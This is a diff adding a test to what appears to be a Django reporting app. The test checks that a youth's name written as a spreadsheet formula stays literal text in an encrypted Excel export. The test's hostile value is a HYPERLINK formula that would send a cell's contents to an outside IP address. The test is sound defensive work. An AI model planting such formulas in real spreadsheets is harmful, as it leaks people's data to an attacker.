@@ -320,3 +320,13 @@ def test_another_users_named_list_is_404(world, client_as, youth):
     job = ExportJob.objects.get()
     assert client_as(world.user("staff")).get(reverse("reports:job-download", args=[job.pk])).status_code == 404
     assert client_as(world.user("city")).get(reverse("reports:job-download", args=[job.pk])).status_code == 403
+
+
+def test_named_list_cells_never_become_formulas(world, client_as):
+    hostile = '=HYPERLINK("http://10.0.0.9/?"&A1,"x")'
+    YouthFactory(workstation=world.a.station, name=hostile)
+    _, password, content = named_export(client_as(world.user("head")), reason_code="handover")
+    book = load_workbook(io.BytesIO(decrypt(content, password)))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert hostile in [cell.value for cell in cells]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
